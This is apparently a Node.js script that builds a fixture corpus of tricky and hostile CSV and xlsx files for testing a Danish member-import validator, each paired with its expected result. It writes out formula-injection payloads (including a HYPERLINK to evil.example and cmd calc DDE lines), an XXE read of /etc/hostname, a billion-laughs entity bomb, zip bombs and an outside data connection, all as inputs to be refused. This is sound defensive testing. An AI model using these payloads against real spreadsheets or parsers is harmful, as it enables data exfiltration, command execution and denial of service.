// Writes the bad-input corpus (test/fixtures/bad-input): one small file per case, and cases.json with
// what each must get. The bytes are built here, not typed into an editor, so a BOM, a NUL, a lone CR or
// a broken UTF-8 sequence is exactly what it says. Cases too big to commit (the 50 MB line, the zip
// bomb) are listed in cases.json with "generated": true and built at test time by
// test/fixtures/bad-input/large-inputs.ts.
//
//   node scripts/generate-bad-input.mjs        (re-run after changing a case; review the diff)
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import JSZip from 'jszip';
import { mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';

const OUT = resolve('test/fixtures/bad-input');
const FIXED_DATE = new Date('2024-03-01T09:00:00Z');
const HEAD = 'Navn;E-mail;Telefon;Adresse;Postnr.;By;Om mig';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/** One row of HEAD. */
const row = ({ name = '', email = '', phone = '', address = '', postal = '', city = '', about = '' }) =>
  [name, email, phone, address, postal, city, about].join(';');
const lines = (...l) => `${l.join('\r\n')}\r\n`;
const utf8 = (s) => Buffer.from(s, 'utf8');
const cat = (...parts) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? utf8(p) : Buffer.from(p))));

// A refused file answers 400 VALIDATION_FAILED with these problems, and the CLI exits 1 with the same.
const refused = (problems) => ({ status: 400, code: 'VALIDATION_FAILED', problems });
const p = (row, field, code) => ({ row, field, code });
const fileLevel = (code) => ({ code });

const cases = [];
const files = new Map();
function add(file, bytes, spec) {
  if (files.has(file)) throw new Error(`duplicate fixture ${file}`);
  files.set(file, bytes);
  cases.push({ file, ...spec });
}

// ---------------------------------------------------------------------------------------------
// Good but tricky: these MUST import, with the values read exactly.
// ---------------------------------------------------------------------------------------------
add(
  'good-windows1252-semicolon-declared-utf8.csv',
  iconv.encode(
    lines(HEAD, row({ name: 'Søren Æbelø', email: 'soren@w1252.example.dk', city: 'Århus', about: '"€ 5 til kaffe; tak"' }), row({ name: 'Åse Øster', email: 'ase@w1252.example.dk', postal: '5000' })),
    'windows-1252',
  ),
  {
    about: 'Danish Excel "CSV (semikolonsepareret)" sent as text/csv; charset=utf-8: the declared charset is wrong and ignored, the bytes decide',
    format: 'csv',
    contentType: 'text/csv; charset=utf-8',
    status: 201,
    created: 2,
    stored: [
      { email: 'soren@w1252.example.dk', name: 'Søren Æbelø', city: 'Århus', about_me: '€ 5 til kaffe; tak' },
      { email: 'ase@w1252.example.dk', name: 'Åse Øster' },
    ],
  },
);
add(
  'good-utf8-bom-semicolon.csv',
  cat([0xef, 0xbb, 0xbf], lines(HEAD, row({ name: 'Zoë Brønnum', email: 'zoe@bom.example.dk', phone: '40 40 40 40' }))),
  { about: 'Excel "CSV UTF-8": byte-order mark, semicolons, CRLF', format: 'csv', status: 201, created: 1, stored: [{ email: 'zoe@bom.example.dk', name: 'Zoë Brønnum', phone: '+4540404040' }] },
);
add(
  'good-utf8-comma-quoted.csv',
  utf8('Name,Email,City,About me\nAnna Hansen,anna@comma.example.dk,"Odense, C","Likes ; and , and ""quotes"""\n'),
  {
    about: 'comma-separated UTF-8 with LF; separators and quotes inside quoted values',
    format: 'csv',
    status: 201,
    created: 1,
    stored: [{ email: 'anna@comma.example.dk', city: 'Odense, C', about_me: 'Likes ; and , and "quotes"' }],
  },
);
add(
  'good-utf16le-bom-tab.txt',
  cat([0xff, 0xfe], Buffer.from('Navn\tE-mail\tBy\r\nŁukasz Wiśniewski\tlukasz@utf16.example.pl\tKøge\r\n', 'utf16le')),
  { about: 'Excel "Unicode text": UTF-16 LE with a byte-order mark, tab-separated', format: 'csv', status: 201, created: 1, stored: [{ email: 'lukasz@utf16.example.pl', name: 'Łukasz Wiśniewski', city: 'Køge' }] },
);
add(
  'good-quoted-newline-about-me.csv',
  utf8(lines(HEAD, row({ name: 'Bo Lund', email: 'bo@newline.example.dk', about: '"Første linje\r\nanden linje med ""citat"""' }), row({ name: 'Cy Holm', email: 'cy@newline.example.dk' }))),
  {
    about: '"about me" may span lines (people write paragraphs); the record after it keeps its own row number',
    format: 'csv',
    status: 201,
    created: 2,
    stored: [{ email: 'bo@newline.example.dk', about_me: 'Første linje\nanden linje med "citat"' }],
  },
);
add(
  'good-right-to-left-names.csv',
  utf8(
    lines(
      HEAD,
      row({ name: 'محمد الأحمد', email: 'mohammad@rtl.example.dk', city: 'København' }),
      row({ name: 'דוד כהן', email: 'david@rtl.example.dk' }),
      // RLM (U+200F) is an implicit mark that real right-to-left text uses; it overrides nothing.
      row({ name: 'Sara \u200fسارة', email: 'sara@rtl.example.dk' }),
    ),
  ),
  {
    about: 'Arabic and Hebrew names, and one with an RLM mark: legitimate names, accepted as written',
    format: 'csv',
    status: 201,
    created: 3,
    stored: [
      { email: 'mohammad@rtl.example.dk', name: 'محمد الأحمد' },
      { email: 'david@rtl.example.dk', name: 'דוד כהן' },
      { email: 'sara@rtl.example.dk', name: 'Sara \u200fسارة' },
    ],
  },
);
add('good-sep-line.csv', utf8('sep=,\r\nNavn,E-mail,Om mig\r\nDi Berg,di@sep.example.dk,Hej; hej\r\n'), {
  about: 'an Excel "sep=," first line picks the separator and is not a row',
  format: 'csv',
  status: 201,
  created: 1,
  stored: [{ email: 'di@sep.example.dk', about_me: 'Hej; hej' }],
});
add('good-mac-cr-line-endings.csv', utf8('Navn;E-mail\rEa Vang;ea@mac.example.dk\rFi Dal;fi@mac.example.dk\r'), {
  about: 'classic Mac line endings (CR only)',
  format: 'csv',
  status: 201,
  created: 2,
});
add(
  'good-formula-lookalikes.csv',
  utf8(lines(HEAD, row({ name: 'Anne-Marie Dahl', email: 'anne+netvaerk@look.example.dk', phone: '+45 20 12 34 56', city: '-', about: '+45 31 22 33 44 efter kl. 16' }), row({ name: 'Gu Friis', email: 'gu@look.example.dk', address: '-5', about: '-' }))),
  {
    about: 'a lone dash, a negative number, a +45 number and a + in an e-mail are not formulas',
    format: 'csv',
    status: 201,
    created: 2,
    stored: [{ email: 'anne+netvaerk@look.example.dk', phone: '+4520123456', city: '-', about_me: '+45 31 22 33 44 efter kl. 16' }],
  },
);

// ---------------------------------------------------------------------------------------------
// Encodings
// ---------------------------------------------------------------------------------------------
add('utf16-without-bom.csv', Buffer.from(lines('Navn;E-mail', 'Hanne Bak;hanne@utf16.example.dk'), 'utf16le'), {
  about: 'UTF-16 without a byte-order mark: cannot be told apart safely, refused as a whole',
  format: 'csv',
  ...refused([fileLevel('ENCODING')]),
});
add(
  'utf8-broken-bytes.csv',
  cat(
    lines(HEAD, row({ name: 'Søren Ærø', email: 'soren@broken.example.dk', city: 'Ålborg', about: 'Kære venner, på gensyn' })),
    'Ib Holm', [0xe6, 0xb8], ';ib@broken.example.dk;;;;;\r\n', // a three-byte sequence cut short
    'Jo Lind;jo@broken.example.dk;;Vej ', [0xc0, 0xaf], ' 1;;;\r\n', // an overlong "/"
  ),
  {
    about: 'UTF-8 with one cut-off character and one overlong sequence: read as UTF-8, the damaged fields named (not silently read as Windows-1252, which would garble every ø)',
    format: 'csv',
    ...refused([p(3, 'name', 'ENCODING'), p(4, 'address', 'ENCODING')]),
  },
);
add('utf8-bom-invalid-byte.csv', cat([0xef, 0xbb, 0xbf], lines(HEAD), 'Kim Berg;kim@bominvalid.example.dk;;;;Vejle', [0xff], ';\r\n'), {
  about: 'a UTF-8 byte-order mark followed by a byte UTF-8 never uses',
  format: 'csv',
  ...refused([p(2, 'city', 'ENCODING')]),
});
add('windows1252-undefined-byte.csv', cat(iconv.encode(lines(HEAD, row({ name: 'Søren Ø', email: 'soren@undef.example.dk' })), 'windows-1252'), 'Lis Krog;lis@undef.example.dk;;;;;Hej ', [0x81], '\r\n'), {
  about: 'Windows-1252 text with one of the five bytes Windows-1252 leaves undefined',
  format: 'csv',
  ...refused([p(3, 'about_me', 'ENCODING')]),
});
add('utf8-read-as-windows1252.csv', utf8(lines(HEAD, row({ name: 'SÃ¸ren Ã†belÃ¸', email: 'soren@mojibake.example.dk' }), row({ name: 'Ok Navn', email: 'ok@mojibake.example.dk', city: 'KÃ¸benhavn' }))), {
  about: 'UTF-8 once misread as Windows-1252 and saved again ("SÃ¸ren"): refused rather than stored garbled',
  format: 'csv',
  ...refused([p(2, 'name', 'GARBLED_TEXT'), p(3, 'city', 'GARBLED_TEXT')]),
});
add('not-text.csv', pseudoRandomBytes(4096, 7), { about: 'binary bytes with a .csv name', format: 'csv', ...refused([fileLevel('ENCODING')]) });

// ---------------------------------------------------------------------------------------------
// Structure
// ---------------------------------------------------------------------------------------------
add('empty.csv', Buffer.alloc(0), {
  about: 'zero bytes; over HTTP that is no file at all',
  format: 'csv',
  ...refused([fileLevel('EMPTY_FILE')]),
  http: refused([{ field: 'file', code: 'FILE_MISSING' }]),
});
add('bom-only.csv', cat([0xef, 0xbb, 0xbf], '\r\n\r\n'), { about: 'a byte-order mark and blank lines', format: 'csv', ...refused([fileLevel('EMPTY_FILE')]) });
add('header-only.csv', utf8(lines(HEAD)), { about: 'headings and no member rows: almost surely the wrong export', format: 'csv', ...refused([fileLevel('NO_MEMBER_ROWS')]) });
add('missing-required-columns.csv', utf8(lines('Telefon;By', '20123456;Odense')), {
  about: 'neither a name nor an e-mail column',
  format: 'csv',
  ...refused([p(1, 'name', 'MISSING_COLUMN'), p(1, 'email', 'MISSING_COLUMN')]),
});
add('unknown-columns.csv', utf8(lines('Navn;E-mail;CPR-nummer;Diagnose', 'Mia Skov;mia@unknown.example.dk;x;y')), {
  about: 'columns that are no member field (and must never be stored)',
  format: 'csv',
  ...refused([p(1, undefined, 'UNKNOWN_COLUMN'), p(1, undefined, 'UNKNOWN_COLUMN')]),
});
add('semicolon-headings-comma-rows.csv', utf8(lines('Navn;E-mail', 'Nis Bro,nis@mixed.example.dk', 'Ole Bro,ole@mixed.example.dk')), {
  about: 'headings with ; but rows written with , (two files pasted together): each row has no e-mail',
  format: 'csv',
  ...refused([p(2, 'email', 'REQUIRED'), p(3, 'email', 'REQUIRED')]),
});
add('unquoted-separator.csv', utf8(lines('Navn;E-mail;Adresse', 'Pia Lund;pia@unquoted.example.dk;Vestergade 5; 2. tv')), {
  about: 'a separator inside an unquoted value spills into a column without a heading',
  format: 'csv',
  ...refused([p(2, undefined, 'VALUE_WITHOUT_COLUMN')]),
});
add('unclosed-quote.csv', utf8(lines(HEAD, row({ name: 'Rie Vig', email: 'rie@quote.example.dk' }), 'Sus Vig;"sus@quote.example.dk;;;;;')), {
  about: 'a quote that is never closed',
  format: 'csv',
  ...refused([p(3, undefined, 'UNREADABLE_FILE')]),
});
add('old-binary-workbook.xls', cat([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], Buffer.alloc(504)), {
  about: 'an old binary .xls (or a password-protected .xlsx, which is the same container)',
  format: 'csv',
  ...refused([fileLevel('UNREADABLE_FILE')]),
});

// ---------------------------------------------------------------------------------------------
// Values
// ---------------------------------------------------------------------------------------------
const FORMULAS = [
  ['formula-equals.csv', '=', row({ name: '=HYPERLINK("http://evil.example/?"&B2,"Klik")', email: 'eq@formula.example.dk' }), 'name'],
  ['formula-plus.csv', '+', row({ name: 'Tom Ask', email: 'plus@formula.example.dk', city: "+cmd|' /C calc'!A0" }), 'city'],
  ['formula-minus.csv', '-', row({ name: 'Una Ask', email: 'minus@formula.example.dk', address: "-2+3+cmd|' /C calc'!A0" }), 'address'],
  ['formula-at.csv', '@', row({ name: 'Vic Ask', email: 'at@formula.example.dk', about: '@SUM(1+1)*cmd|\' /C calc\'!A0' }), 'about_me'],
  ['formula-leading-tab.csv', 'a tab before =', row({ name: '"\t=1+1"', email: 'tab@formula.example.dk' }), 'name'],
  ['formula-leading-cr.csv', 'a carriage return before =', row({ name: 'Yan Ask', email: 'cr@formula.example.dk', city: '"\r=1+1"' }), 'city'],
];
for (const [file, what, line, field] of FORMULAS) {
  add(file, utf8(lines(HEAD, row({ name: 'God Række', email: `ok.${file.replace(/\W/g, '')}@formula.example.dk` }), line)), {
    about: `a value starting with ${what} (spreadsheet formula injection)`,
    format: 'csv',
    ...refused([p(3, field, 'FORMULA')]),
  });
}
add(
  'cpr-numbers.csv',
  utf8(
    lines(
      'Fornavn;Efternavn;E-mail;Telefon;Adresse;Postnr.;By;Om mig',
      'Ask;Berg;ask@cpr.example.dk;;;;;Mit CPR er 010190-1234',
      'Bea;Berg;bea@cpr.example.dk;;Vej 0101901234;;;',
      '010190;1234;cpr1@cpr.example.dk;;;;;',
      'Cas;Berg;0101901234@cpr.example.dk;;;;;',
      'Dan;Berg;dan@cpr.example.dk;0101901234;;;;',
      'Eli;Berg;eli@cpr.example.dk;;;0101901234;;',
      'Fie;Berg;fie@cpr.example.dk;;;;010190\u20131234;',
      'Gro;Berg;gro@cpr.example.dk;;;;;cpr 010190 1234',
    ),
  ),
  {
    about: 'CPR numbers with and without dash, with an en dash or a space, split over first and last name, in every field',
    format: 'csv',
    ...refused([
      p(2, 'about_me', 'CPR_NUMBER'),
      p(3, 'address', 'CPR_NUMBER'),
      p(4, 'name', 'CPR_NUMBER'),
      p(5, 'email', 'CPR_NUMBER'),
      p(6, 'phone', 'CPR_NUMBER'),
      p(6, 'phone', 'INVALID_PHONE'),
      p(7, 'postal_code', 'CPR_NUMBER'),
      p(8, 'city', 'CPR_NUMBER'),
      p(9, 'about_me', 'CPR_NUMBER'),
    ]),
  },
);
add('duplicate-emails-in-file.csv', utf8(lines(HEAD, row({ name: 'Hal Bech', email: 'hal@dup.example.dk' }), row({ name: 'Ina Bech', email: 'ina@dup.example.dk' }), row({ name: 'Hal B.', email: ' HAL@Dup.Example.DK ' }))), {
  about: 'the same e-mail twice, differing only in case and spaces',
  format: 'csv',
  ...refused([p(4, 'email', 'DUPLICATE_EMAIL')]),
});
add('duplicate-email-existing-member.csv', utf8(lines(HEAD, row({ name: 'Jan Krag', email: 'jan@fresh.example.dk' }), row({ name: 'Kaj Krag', email: 'Taken.Member@Existing.Example.DK' }))), {
  about: 'an e-mail that already belongs to a member (the test inserts that member first)',
  format: 'csv',
  existingEmails: ['taken.member@existing.example.dk'],
  ...refused([p(3, 'email', 'DUPLICATE_EMAIL')]),
});
add('name-10000-characters.csv', utf8(lines(HEAD, row({ name: 'L'.repeat(10_000), email: 'long@len.example.dk' }), row({ name: 'Ok', email: 'ok@len.example.dk', about: 'm'.repeat(2001) }))), {
  about: 'a 10,000-character name, and an "about me" one character over its limit',
  format: 'csv',
  ...refused([p(2, 'name', 'TOO_LONG'), p(3, 'about_me', 'TOO_LONG')]),
});
add(
  'control-characters.csv',
  utf8(
    lines(
      HEAD,
      row({ name: 'Nul\u0000Navn', email: 'nul@ctrl.example.dk' }),
      row({ name: 'Bel Berg', email: 'bel@ctrl.example.dk', city: 'Ode\u0007nse' }),
      row({ name: 'Nel Berg', email: 'nel@ctrl.example.dk', address: 'Vej\u0085 5' }),
      row({ name: 'Esc Berg', email: 'esc@ctrl.example.dk', city: '\u001b[31mRød' }),
      row({ name: 'Del Berg', email: 'del@ctrl.example.dk', about: 'Hej\u007f' }),
      row({ name: 'Ls\u2028Berg', email: 'ls@ctrl.example.dk' }),
      row({ name: 'Cr Berg', email: 'cr@ctrl.example.dk', about: '"Hej\rmed dig"' }),
    ),
  ),
  {
    about: 'NUL, BEL, NEL (C1), an ANSI escape, DEL, a line separator and a lone carriage return',
    format: 'csv',
    ...refused([
      p(2, 'name', 'CONTROL_CHARACTER'),
      p(3, 'city', 'CONTROL_CHARACTER'),
      p(4, 'address', 'CONTROL_CHARACTER'),
      p(5, 'city', 'CONTROL_CHARACTER'),
      p(6, 'about_me', 'CONTROL_CHARACTER'),
      p(7, 'name', 'CONTROL_CHARACTER'),
      p(8, 'about_me', 'CONTROL_CHARACTER'),
    ]),
  },
);
add('quoted-newline-in-name.csv', utf8(lines(HEAD, row({ name: '"Mads\r\nMadsen"', email: 'mads@nl.example.dk' }), row({ name: 'Ok Række', email: 'ok@nl.example.dk' }))), {
  about: 'a line break inside a quoted name: a name is one line (it breaks the list layout and is a paste error), unlike "about me"',
  format: 'csv',
  ...refused([p(2, 'name', 'CONTROL_CHARACTER')]),
});
add(
  'bidi-controls.csv',
  utf8(
    lines(
      HEAD,
      row({ name: 'Anna \u202eknahnaH', email: 'rlo@bidi.example.dk' }),
      row({ name: 'Lre Berg', email: 'lri\u2066@bidi.example.dk' }),
      row({ name: 'Pdf Berg', email: 'pdf@bidi.example.dk', city: 'Odense\u202c' }),
      row({ name: 'محمد \u2067Rli\u2069', email: 'rli@bidi.example.dk' }),
    ),
  ),
  {
    about: 'bidi overrides and isolates (U+202A-U+202E, U+2066-U+2069) that can make stored text display as something else',
    format: 'csv',
    ...refused([p(2, 'name', 'BIDI_CONTROL'), p(3, 'email', 'BIDI_CONTROL'), p(3, 'email', 'INVALID_EMAIL'), p(4, 'city', 'BIDI_CONTROL'), p(5, 'name', 'BIDI_CONTROL')]),
  },
);

// ---------------------------------------------------------------------------------------------
// Workbooks
// ---------------------------------------------------------------------------------------------
async function workbook(sheets) {
  const wb = new ExcelJS.Workbook();
  wb.created = FIXED_DATE;
  wb.modified = FIXED_DATE;
  for (const { name = 'Medlemmer', state, rows, hiddenRows = [], hiddenColumns = [] } of sheets) {
    const ws = wb.addWorksheet(name, state ? { state } : undefined);
    for (const r of rows) ws.addRow(r);
    for (const r of hiddenRows) ws.getRow(r).hidden = true;
    for (const c of hiddenColumns) ws.getColumn(c).hidden = true;
  }
  return JSZip.loadAsync(Buffer.from(await wb.xlsx.writeBuffer()));
}
function zipBytes(zip) {
  // Fixed entry dates, so re-running the script changes no file that the cases did not change.
  zip.forEach((_, entry) => {
    entry.date = FIXED_DATE;
  });
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
}
const put = (zip, name, text) => zip.file(name, text, { date: FIXED_DATE });
async function edit(zip, name, change) {
  put(zip, name, change(await zip.file(name).async('string')));
}
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relationship = (id, type, target, mode) =>
  `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${mode ? ` TargetMode="${mode}"` : ''}/>`;
const addRelationship = (zip, relsPath, xml) => edit(zip, relsPath, (s) => s.replace('</Relationships>', `${xml}</Relationships>`));
const addOverride = (zip, part, contentType) =>
  edit(zip, '[Content_Types].xml', (s) => s.replace('</Types>', `<Override PartName="/${part}" ContentType="${contentType}"/></Types>`));
const MEMBERS = [['Navn', 'E-mail', 'By'], ['Ole Dam', 'ole@xlsx.example.dk', 'Ribe']];

async function externalLinkWorkbook(partPath) {
  const zip = await workbook([{ rows: MEMBERS }]);
  const dir = partPath.slice(0, partPath.lastIndexOf('/'));
  const base = partPath.slice(partPath.lastIndexOf('/') + 1);
  put(zip, partPath, `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}"><externalBook r:id="rId1"><sheetNames><sheetName val="Ark1"/></sheetNames></externalBook></externalLink>`);
  put(zip, `${dir}/_rels/${base}.rels`, `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship('rId1', 'externalLinkPath', 'file:///C:/Users/coordinator/Documents/diagnoser.xlsx', 'External')}</Relationships>`);
  await addRelationship(zip, 'xl/_rels/workbook.xml.rels', relationship('rId99', 'externalLink', partPath.replace(/^xl\//, '')));
  await addOverride(zip, partPath, 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml');
  await edit(zip, 'xl/workbook.xml', (s) => s.replace('</sheets>', `</sheets><externalReferences><externalReference r:id="rId99"/></externalReferences>`));
  return zipBytes(zip);
}

add('external-link.xlsx', await externalLinkWorkbook('xl/externalLinks/externalLink1.xml'), {
  about: 'a workbook linked to another workbook (xl/externalLinks, an external path)',
  format: 'xlsx',
  contentType: XLSX,
  ...refused([fileLevel('EXTERNAL_LINKS')]),
});
add('external-link-unusual-path.xlsx', await externalLinkWorkbook('xl/media/notes1.xml'), {
  about: 'the same external link stored under an innocent-looking part name: found through its relationship, not its path',
  format: 'xlsx',
  contentType: XLSX,
  ...refused([fileLevel('EXTERNAL_LINKS')]),
});
{
  const zip = await workbook([{ rows: MEMBERS }]);
  put(zip, 'xl/stuff/conn.xml', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="q" type="5" refreshOnLoad="1"><dbPr connection="Provider=MSOLEDBSQL;Data Source=evil.example" command="SELECT 1"/></connection></connections>`);
  await addRelationship(zip, 'xl/_rels/workbook.xml.rels', relationship('rId98', 'connections', 'stuff/conn.xml'));
  await addOverride(zip, 'xl/stuff/conn.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml');
  add('data-connection.xlsx', await zipBytes(zip), {
    about: 'a data connection that refreshes from an outside source when opened',
    format: 'xlsx',
    contentType: XLSX,
    ...refused([fileLevel('EXTERNAL_LINKS')]),
  });
}
{
  const zip = await workbook([{ rows: MEMBERS }]);
  put(zip, 'xl/worksheets/_rels/sheet1.xml.rels', `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship('rId1', 'image', 'http://tracker.example/pixel.png', '&#69;xternal')}</Relationships>`);
  add('external-target-escaped.xlsx', await zipBytes(zip), {
    about: 'a relationship to a URL whose TargetMode is written with a character reference (&#69;xternal), as Excel would still read it',
    format: 'xlsx',
    contentType: XLSX,
    ...refused([fileLevel('EXTERNAL_LINKS')]),
  });
}
{
  const zip = await workbook([{ rows: [['Navn', 'E-mail', 'By'], ['Per Dam', 'per@xlsx.example.dk', { formula: "'C:\\Users\\x\\[diagnoser.xlsx]Ark1'!A1", result: 'Ribe' }]] }]);
  add('formula-cell.xlsx', await zipBytes(zip), {
    about: 'a formula cell (here a reference into another workbook) is read as its formula, never as its cached result',
    format: 'xlsx',
    contentType: XLSX,
    ...refused([p(2, 'city', 'FORMULA')]),
  });
}
{
  const zip = await workbook([{ rows: [['Navn', 'E-mail', 'Om mig'], ['Rut Dam', 'rut@xlsx.example.dk', 101901234], ['Sif Dam', 'sif@xlsx.example.dk', '010190-1234']] }]);
  add('cpr-number-cells.xlsx', await zipBytes(zip), {
    about: 'a CPR number typed into a cell, which Excel stores as the number 101901234 (leading zero dropped), and one as text',
    format: 'xlsx',
    contentType: XLSX,
    ...refused([p(2, 'about_me', 'CPR_NUMBER'), p(3, 'about_me', 'CPR_NUMBER')]),
  });
}
{
  const zip = await workbook([{ rows: [['Navn', 'E-mail', 'Om mig'], ['Tea Dam', 'tea@hidden.example.dk', 'Ja'], ['Uffe Dam', 'uffe@hidden.example.dk', 'Nej tak, ikke på listen'], ['Vera Dam', 'vera@hidden.example.dk', 'Ja']], hiddenRows: [3] }]);
  add('hidden-row.xlsx', await zipBytes(zip), {
    about: 'a row hidden (or filtered out) in Excel: the coordinator does not see it, so it must not slip in',
    format: 'xlsx',
    contentType: XLSX,
    ...refused([p(3, undefined, 'HIDDEN_ROW')]),
  });
}
{
  const zip = await workbook([{ rows: [['Navn', 'E-mail', 'Om mig'], ['Wil Dam', 'wil@hidden.example.dk', 'Diagnose: ...']], hiddenColumns: [3] }]);
  add('hidden-column.xlsx', await zipBytes(zip), {
    about: 'a hidden column with values',
    format: 'xlsx',
    contentType: XLSX,
    ...refused([p(1, undefined, 'HIDDEN_COLUMN')]),
  });
}
{
  const zip = await workbook([
    { name: 'Gammel', state: 'veryHidden', rows: [['Navn', 'E-mail'], ['Skjult Person', 'hidden.person@hidden.example.dk']] },
    { rows: [['Navn', 'E-mail'], ['Xenia Dam', 'xenia@visible.example.dk']] },
  ]);
  add('good-hidden-first-sheet.xlsx', await zipBytes(zip), {
    about: 'a workbook whose first sheet is hidden: the first sheet the coordinator sees is the one imported',
    format: 'xlsx',
    contentType: XLSX,
    status: 201,
    created: 1,
    stored: [{ email: 'xenia@visible.example.dk', name: 'Xenia Dam' }],
    notStored: ['hidden.person@hidden.example.dk'],
  });
}
{
  const zip = await workbook([{ rows: [['Fornavn', 'Efternavn', 'E-mail', 'Telefon', 'Om mig'], ['Yrsa', 'Ærø', { text: 'Yrsa@XLSX.example.dk', hyperlink: 'mailto:yrsa@xlsx.example.dk' }, 20123456, 'Linje 1\nLinje 2']] }]);
  add('good-workbook.xlsx', await zipBytes(zip), {
    about: 'a plain workbook: a mailto hyperlink (the one outside link allowed), a phone as a number, a cell with a line break in "about me"',
    format: 'xlsx',
    contentType: XLSX,
    status: 201,
    created: 1,
    stored: [{ email: 'yrsa@xlsx.example.dk', name: 'Yrsa Ærø', phone: '+4520123456', about_me: 'Linje 1\nLinje 2' }],
  });
}
{
  const zip = await workbook([{ rows: MEMBERS }]);
  await edit(zip, 'xl/sharedStrings.xml', (s) => s.replace('<sst', '<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><sst').replace('<t>Ole Dam</t>', '<t>&xxe;</t>'));
  add('xml-external-entity.xlsx', await zipBytes(zip), {
    about: 'an XML external entity pointing at a local file (XXE): never resolved, the workbook is refused',
    format: 'xlsx',
    contentType: XLSX,
    ...refused([fileLevel('UNREADABLE_FILE')]),
  });
}
{
  const zip = await workbook([{ rows: MEMBERS }]);
  const entities = ['<!ENTITY a "aaaaaaaaaa">', ...'bcdefgh'.split('').map((c, i) => `<!ENTITY ${c} "${`&${'abcdefgh'[i]};`.repeat(10)}">`)].join('');
  await edit(zip, 'xl/sharedStrings.xml', (s) => s.replace('<sst', `<!DOCTYPE sst [${entities}]><sst`).replace('<t>Ole Dam</t>', '<t>&h;</t>'));
  add('xml-entity-expansion.xlsx', await zipBytes(zip), {
    about: 'nested XML entities ("billion laughs"): refused, not expanded',
    format: 'xlsx',
    contentType: XLSX,
    ...refused([fileLevel('UNREADABLE_FILE')]),
  });
}
{
  // 8 MB of sheet XML packed into a few kilobytes: tiny zip, huge uncompressed sheet.
  const zip = await workbook([{ rows: MEMBERS }]);
  const rowXml = '<row><c t="inlineStr"><is><t>x</t></is></c></row>';
  put(zip, 'xl/worksheets/sheet1.xml', `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rowXml.repeat(Math.ceil((8 * 1024 * 1024) / rowXml.length))}</sheetData></worksheet>`);
  add('zip-bomb-ratio.xlsx', await zipBytes(zip), {
    about: 'a few kilobytes that unpack to an 8 MB sheet (compression ratio far above 200)',
    format: 'xlsx',
    contentType: XLSX,
    ...refused([fileLevel('ZIP_BOMB')]),
  });
}
{
  // The central directory says 1,000 bytes; the entry inflates to 4 MB.
  const zip = await workbook([{ rows: MEMBERS }]);
  put(zip, 'xl/worksheets/sheet1.xml', ' '.repeat(4 * 1024 * 1024));
  const bytes = await zipBytes(zip);
  understateSize(bytes, 'xl/worksheets/sheet1.xml', 1000);
  add('zip-bomb-lying-size.xlsx', bytes, {
    about: 'a zip whose directory understates how much an entry unpacks to',
    format: 'xlsx',
    contentType: XLSX,
    ...refused([fileLevel('ZIP_BOMB')]),
  });
}
{
  const good = await zipBytes(await workbook([{ rows: MEMBERS }]));
  add('truncated.xlsx', good.subarray(0, good.length - 100), { about: 'a workbook cut off in transfer', format: 'xlsx', contentType: XLSX, ...refused([fileLevel('UNREADABLE_FILE')]) });
}

// ---------------------------------------------------------------------------------------------
// Generated at test time (too big to commit)
// ---------------------------------------------------------------------------------------------
cases.push(
  {
    file: 'single-line-50mb.csv',
    generated: true,
    about: 'a 50 MB file that is one line: refused by size before any of it is parsed (HTTP: the body limit; CLI: the file size)',
    format: 'csv',
    status: 413,
    code: 'PAYLOAD_TOO_LARGE',
    problems: [],
    cli: refused([{ field: 'file', code: 'FILE_TOO_LARGE' }]),
  },
  {
    file: 'single-line-2mb.csv',
    generated: true,
    about: 'a 2 MB member row, under the file limit: refused at the line limit (100,000 characters), naming the row',
    format: 'csv',
    ...refused([p(2, undefined, 'LINE_TOO_LONG')]),
  },
  {
    file: 'zip-bomb-120mb.xlsx',
    generated: true,
    about: 'a workbook of about 120 KB whose sheet unpacks to 120 MB',
    format: 'xlsx',
    contentType: XLSX,
    ...refused([fileLevel('ZIP_BOMB')]),
  },
);

function understateSize(bytes, name, size) {
  const sig = Buffer.from([0x50, 0x4b, 0x01, 0x02]);
  for (let at = bytes.indexOf(sig); at !== -1; at = bytes.indexOf(sig, at + 4)) {
    const nameLength = bytes.readUInt16LE(at + 28);
    if (bytes.toString('utf8', at + 46, at + 46 + nameLength) === name) {
      bytes.writeUInt32LE(size, at + 24);
      return;
    }
  }
  throw new Error(`no central directory entry ${name}`);
}

/** Deterministic noise (a linear congruential generator), so the file is the same on every run. */
function pseudoRandomBytes(length, seed) {
  const out = Buffer.alloc(length);
  let x = seed;
  for (let i = 0; i < length; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    out[i] = x >>> 24;
  }
  return out;
}

mkdirSync(OUT, { recursive: true });
for (const name of readdirSync(OUT)) {
  if (!['large-inputs.ts', 'corpus.ts', 'README.md'].includes(name)) rmSync(join(OUT, name));
}
for (const [name, bytes] of files) {
  if (bytes.length > 100 * 1024) throw new Error(`${name} is ${bytes.length} bytes; generate it at test time instead`);
  writeFileSync(join(OUT, name), bytes);
}
const json = JSON.stringify({ note: 'Generated by scripts/generate-bad-input.mjs; edit the cases there.', cases }, null, 2);
writeFileSync(join(OUT, 'cases.json'), `${json}\n`);
console.log(`${files.size} files and ${cases.length} cases written to ${OUT}`);
